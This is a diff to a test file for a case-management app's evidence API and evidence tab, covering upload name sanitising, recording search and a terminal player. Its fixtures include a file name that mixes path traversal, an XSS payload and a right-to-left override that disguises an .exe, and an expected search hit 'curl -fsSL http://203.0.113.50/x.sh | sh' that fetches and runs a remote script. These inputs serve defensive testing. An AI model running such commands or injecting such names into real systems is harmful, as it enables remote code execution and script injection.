@@ -137,7 +137,7 @@ describe("the evidence API", () => {
     const hostile = await multipart("security", reference, "..\\..\\<img src=x onerror=alert(1)>\u202Etxt.exe", "hostile name");
     expect(hostile.status).toBe(201);
     const hostileName = (hostile.body.evidence as { name: string }).name;
-    expect(hostileName).not.toMatch(/[<>\\/\u202E]/);
+    expect(hostileName).toBe("_img src=x onerror=alert(1)_txt.exe");
 
     const after = ((await call("security", `/api/v1/cases/${reference}/evidence`)).body.items as unknown[]).length;
     expect(after).toBe(before + 1);
@@ -164,6 +164,8 @@ describe("the evidence tab", () => {
     const match = page.getByRole("list", { name: "Matches in ssh-session.cast" });
     await expect.poll(() => match.textContent(), POLL).toContain("curl -fsSL http://203.0.113.50/x.sh | sh");
     await page.getByRole("button", { name: /Play the recording from 0:03.1/ }).click();
+    // Seeking loads the recording into the player's terminal: the screen at 3.1 s shows the whoami typed before.
+    await expect.poll(() => page.locator("[data-evidence-player]").innerText(), POLL).toContain("whoami");
     await page.screenshot({ path: screenshotPath("case-evidence-search"), fullPage: true });
   });
 
@@ -177,6 +179,7 @@ describe("the evidence tab", () => {
     const dark = await (await browser.newContext({ viewport: { width: 390, height: 844 }, colorScheme: "dark", storageState: await page.context().storageState() })).newPage();
     await dark.goto(`${base}/cases/${reference}/evidence`);
     await expect.poll(() => dark.locator(`[data-sha256="${sha(content)}"]`).isVisible(), POLL).toBe(true);
+    await expect.poll(() => dark.locator("[data-evidence-player] .ap-wrapper, [data-evidence-player] .ap-player").count(), POLL).toBeGreaterThan(0);
     expect(await dark.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
     await dark.screenshot({ path: screenshotPath("case-evidence-phone-dark"), fullPage: true });
   });
